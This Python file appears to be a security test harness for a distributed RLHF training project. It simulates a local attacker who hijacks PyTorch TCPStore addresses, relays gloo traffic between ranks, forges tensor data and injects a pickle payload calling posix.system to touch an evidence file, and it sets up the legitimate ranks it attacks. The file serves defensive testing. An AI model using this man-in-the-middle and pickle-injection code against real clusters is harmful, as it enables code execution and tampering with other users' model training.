"""A stranger between the ranks of gloo groups: another user of the node, who knows torch's store and gloo's greeting.

As a program, it is that stranger, `gloo_relay.py attack EVIDENCE`, or one of the ranks, `gloo_relay.py KIND RANK`.
The stranger finds the store among the listeners of the node, writes addresses of its own in place of the ranks', passes
on what they send each other, and exchanges pickles and tensors on the way.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401  # a connection loads it, and nobody may not read where it is
import json
import os
import re
import socket
import struct
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
import torch.distributed as dist

from slurm_rlhf.process_groups import _torch

NOBODY = 65534
LIMIT_S = 20.0
WEIGHTS, FORGED = b"weights!" * 8, b"forged!!" * 8
_PICKLE = b"\x80\x04\x95"
_ADDRESS = re.compile(rb"\x02\x00(..)\x7f\x00\x00\x01", re.DOTALL)


# --- the stranger ----------------------------------------------------------------------------------------------------


def listeners() -> set[int]:
    """The ports of this node that somebody listens at, as every user reads them."""
    tables = (Path(f"/proc/net/{table}").read_text() for table in ("tcp", "tcp6"))
    rows = [line.split() for table in tables for line in table.splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}


class Relay:
    """Stands between the two ranks of each group whose addresses are in a store."""

    def __init__(self, port: int, evidence: str) -> None:
        self._store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False)
        self._evidence = evidence
        self._true: dict[str, bytes] = {}  # key -> the address that its rank wrote
        self._mine: dict[str, bytes] = {}
        self._listening: dict[str, socket.socket] = {}
        self.over = threading.Event()

    def run(self) -> None:
        with contextlib.suppress(RuntimeError):
            while not self.over.wait(0.001):
                for key in self._store.list_keys():
                    value = self._store.get(key)
                    if _ADDRESS.search(value) and value not in self._mine.values():
                        self._replace(key.lstrip("/"), value)

    def _replace(self, key: str, value: bytes) -> None:
        """Put an own address in the place of a rank's, and of the other rank's before that one comes."""
        group, _, rank = key.rpartition("/")
        first = not self._true
        other = f"{group}/{1 - int(rank)}"
        self._true[key] = value
        for each in (key, other):
            if each not in self._listening:
                self._listening[each] = socket.create_server(("127.0.0.1", 0))
            port = struct.pack(">H", self._listening[each].getsockname()[1])
            mine = _ADDRESS.sub(lambda _: b"\x02\x00" + port + b"\x7f\x00\x00\x01", value)  # noqa: B023
            if each == key or other not in self._true:
                self._mine[each] = mine
                self._store.set(each, mine)
        if first:
            print("wrote", flush=True)
        if other in self._true:
            threading.Thread(target=self._connect, args=(group,), daemon=True).start()

    def _connect(self, group: str) -> None:
        """Take a connection from each rank, or make it where the rank waits for one, and pass on what comes."""
        ends: dict[int, socket.socket] = {}

        def reach(rank: int) -> None:
            waiting = self._listening[f"{group}/{1 - rank}"]  # where `rank` finds the other one
            waiting.settimeout(1.0)
            try:
                ends[rank], _ = waiting.accept()
                ends[rank].recv(8, socket.MSG_WAITALL)
            except TimeoutError:
                value = self._true[f"{group}/{rank}"]
                found = _ADDRESS.search(value)
                assert found is not None
                ends[rank] = socket.create_connection(("127.0.0.1", struct.unpack(">H", found[1])[0]))
                ends[rank].sendall(value[len(value) - 16 :][8 * (1 - rank) :][:8])

        threads = [threading.Thread(target=reach, args=(rank,), daemon=True) for rank in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        print(f"between the ranks of {group}", file=sys.stderr, flush=True)
        for rank in range(2):
            threading.Thread(target=self._pass_on, args=(ends[rank], ends[1 - rank]), daemon=True).start()

    def _pass_on(self, source: socket.socket, to: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(1 << 20):
                to.sendall(self._exchanged(data))
        for each in (source, to):
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)

    def _exchanged(self, data: bytes) -> bytes:
        data = data.replace(WEIGHTS, FORGED)
        at = data.find(_PICKLE)
        if at >= 0:
            size = 11 + struct.unpack_from("<Q", data, at + 3)[0]
            evil = f"cposix\nsystem\n(Vtouch {self._evidence}\ntR.".encode()
            if size >= len(evil):
                data = data[:at] + evil.ljust(size, b".") + data[at + size :]
        return data


def attack(evidence: str) -> None:
    """Attack the stores whose ports are read from stdin, a line each; they must be seen among the listeners."""
    torch.zeros(1)
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    relays: list[Relay] = []
    for line in sys.stdin:
        for relay in relays:
            relay.over.set()
        port = int(line)
        assert port in listeners()
        relays.append(Relay(port, evidence))
        threading.Thread(target=relays[-1].run, daemon=True).start()
        print(f"looking at {port}", flush=True)


# --- the ranks -------------------------------------------------------------------------------------------------------


def engine(rank: int, port: int) -> bytes:
    """Form the group of an engine, and take an object from its leader, as vLLM does."""
    from slurm_rlhf.engine.tp_engine import EnginePlace, engine_group, engine_store

    place = EnginePlace(0, rank, 2, "here")
    os.environ |= {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": str(port)}
    store = engine_store(place, LIMIT_S)
    with engine_group(place, store, LIMIT_S):
        sent: list[Any] = [["a handle"] * 40 + [WEIGHTS.decode()] if rank == 0 else None]
        dist.broadcast_object_list(sent, src=0)
    return sent[0][-1].encode() if isinstance(sent[0], list) else b"?"


def role(rank: int, port: int) -> bytes:
    """Form the group of the ranks of a role that trains or scores, and take a tensor from the first."""
    from slurm_rlhf.trainer.distributed import join_world

    os.environ |= {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": str(port), "RANK": str(rank), "WORLD_SIZE": "2"}
    os.environ |= {"LOCAL_RANK": str(rank), "TORCHELASTIC_USE_AGENT_STORE": "True", "GLOO_SOCKET_IFNAME": "lo"}
    join_world(LIMIT_S, LIMIT_S)
    tensor = torch.frombuffer(bytearray(WEIGHTS if rank == 0 else len(WEIGHTS)), dtype=torch.uint8)
    dist.broadcast(tensor, 0)
    return tensor.numpy().tobytes()


def sync(rank: int, port: int) -> bytes:
    """Form the group of a weight transfer, and send a tensor from the actor to the engine."""
    from slurm_rlhf.weights.group import SyncGroup
    from slurm_rlhf.weights.member import Membership

    group = SyncGroup(Membership(str(port), rank, 2, 1, "127.0.0.1", port, LIMIT_S, backend="gloo"))
    group.open()
    tensor = torch.frombuffer(bytearray(WEIGHTS if rank == 0 else len(WEIGHTS)), dtype=torch.uint8)
    (group.control.receive(tensor, 0, 1) if rank else group.control.send(tensor, 1, 1)).wait()
    group.close()
    return tensor.numpy().tobytes()


def later(rank: int, port: int) -> bytes:
    """Form the group of a role, and then another one, as DeepSpeed does, in which the ranks have different secrets."""
    role(rank, port)
    _torch.protect(f"of rank {rank}")
    dist.new_group()
    return b"taken for a rank"


KINDS: dict[str, Callable[[int, int], bytes]] = {"engine": engine, "role": role, "sync": sync, "later": later}


def wait_before_connecting(kind: str) -> None:
    """Read a line once the ranks have met and before they look for each other's addresses: a stranger has that time."""
    from slurm_rlhf.engine import tp_engine
    from slurm_rlhf.trainer import distributed
    from slurm_rlhf.weights.group import SyncGroup

    place: Any = {"engine": tp_engine, "role": distributed, "sync": SyncGroup}[kind]
    name = "_await_listening" if kind == "sync" else "meet"
    met = getattr(place, name)

    def meet(*args: Any) -> Any:
        made = met(*args)
        sys.stdin.readline()
        return made

    setattr(place, name, meet)


def be_rank(kind: str, rank: int) -> None:
    """Form a group for each port of a store, and secret, that stdin names; print what came, or what was wrong."""
    if rank == 1 and kind != "later":
        wait_before_connecting(kind)
    print("ready", flush=True)
    for line in sys.stdin:
        port, secret = json.loads(line)
        _torch.protect(secret)
        try:
            said = KINDS[kind](rank, port).decode()
        except Exception as error:
            said = f"{type(error).__name__}: {error}"
        with contextlib.suppress(Exception):
            if dist.is_initialized():
                dist.destroy_process_group()
        print(json.dumps(said), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        attack(sys.argv[2])
    else:
        be_rank(sys.argv[1], int(sys.argv[2]))
